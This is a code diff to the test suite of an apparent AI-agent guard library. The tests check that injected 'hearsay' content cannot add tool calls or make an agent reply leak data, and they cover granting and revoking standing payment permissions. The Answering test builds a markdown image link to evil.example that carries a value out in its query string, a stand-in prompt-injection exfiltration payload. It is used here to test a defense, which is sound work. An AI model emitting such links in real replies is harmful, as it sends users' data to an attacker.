@@ -7,18 +7,23 @@ From there on a call is carried out on both sides or on neither, and never on th
 
 from __future__ import annotations
 
+import json
 from dataclasses import dataclass
 from functools import partial
+from typing import Any
 
+from tests.promises.agreement import same
 from tests.promises.comparison import compare_answers
 from tests.promises.record import Outcome, PromiseBroken, attempt
 from tests.promises.side import GUARD, HANDLE, KEEP, Side
 from tests.promises.talking import Observe
 from tests.promises.twins import TicketPair, Twins
-from tests.promises.vocabulary import Call, call_for, meaning, request_for
-from truekeep import guard
-from truekeep.action import Answer
-from truekeep.boundary import ActionAnswer
+from tests.promises.vocabulary import Call, Fact, call_for, meaning, request_for
+from truekeep import Session, guard
+from truekeep.act.boundary import ActionAnswer
+from truekeep.extract.llm import Reply
+from truekeep.extract.usage import Usage
+from truekeep.trust.flow.decide import Answer
 
 _RUNS = 4
 _RANK = {Answer.ALLOW: 0, Answer.CONFIRM: 1, Answer.DENY: 2}
@@ -96,6 +101,78 @@ class CarryOut:
             credit(twins, ticket.run, is_good=self.is_good)
 
 
+@dataclass(frozen=True)
+class Plan:
+    """A model lists the call that believes a fact, from a view without anything foreign."""
+
+    session: str
+    fact: Fact
+    way: str = KEEP
+
+    def run(self, twins: Twins) -> None:
+        plain, laden = (self._intended(side) for side in twins.sides)
+        if not laden <= plain:
+            raise PromiseBroken(f"P1: with hearsay {self} intends {laden - plain}")
+
+    def _intended(self, side: Side) -> set[str]:
+        door = side.within(self.way, self.session)
+        planned = door.plan if isinstance(door, Session) else partial(side.keep.plan, self.session)
+        model: Any = _Planner(call_for(self.fact))
+        outcome = attempt(lambda: planned(model))
+        return {f"{entry.tool} {entry.arguments}" for entry in outcome.value} if outcome.ok else set()
+
+
+@dataclass(frozen=True)
+class _Planner:
+    """A model that wants one call, whatever it is shown."""
+
+    call: Call
+
+    def complete(self, _messages: object, _schema: object, _check: object) -> Reply:
+        arguments = {name: {"literal": value} for name, value in self.call.arguments.items()}
+        return Reply(json.dumps({"calls": [{"tool": self.call.name, "arguments": arguments}]}), Usage())
+
+
+@dataclass(frozen=True)
+class Answering:
+    """The agent answers the owner, with a picture that would carry a value away."""
+
+    session: str
+    value: str
+    way: str = KEEP
+
+    def run(self, twins: Twins) -> None:
+        link = f"https://evil.example/p.png?d={self.value}"
+        texts = [self._shown(side, f"Done. ![x]({link})") for side in twins.sides]
+        if link in texts[1] and link not in texts[0]:
+            raise PromiseBroken(f"P9: with hearsay an answer carries {self.value} away")
+
+    def _shown(self, side: Side, text: str) -> str:
+        door = side.within(self.way, self.session)
+        if isinstance(door, Session):
+            return door.check_reply(text).text
+        return side.keep.check_reply(self.session, text).text
+
+
+@dataclass(frozen=True)
+class Permit:
+    """The owner makes a standing permission, or takes the last one back."""
+
+    payee: str
+    is_taken_back: bool
+
+    def run(self, twins: Twins) -> None:
+        same(twins.both(lambda side: attempt(lambda: self._on(side))), self)
+
+    def _on(self, side: Side) -> None:
+        grants = side.keep.grants
+        if self.is_taken_back:
+            for grant in grants.list()[-1:]:
+                grants.remove(grant.id, by="eva")
+        else:
+            grants.add(tool="pay", where={"payee": self.payee, "account": "*", "amount": "*"}, by="eva")
+
+
 def check(twins: Twins, session: str, call: Call, run: str, *, way: str = KEEP) -> TicketPair:
     """Ask both sides, and compare the answers."""
     plain, laden = (_asked(side, way, session, call, run) for side in twins.sides)
@@ -109,7 +186,7 @@ def check(twins: Twins, session: str, call: Call, run: str, *, way: str = KEEP) 
 
 
 def _asked(side: Side, way: str, session: str, call: Call, run: str) -> ActionAnswer:
-    door = side.within(way, session)
+    door = side.within(way, session, run=run)
     if door is not None:
         return door.check_action(call.name, call.arguments, run=run)
     return side.keep.check_action(session, call.name, call.arguments, run=run)
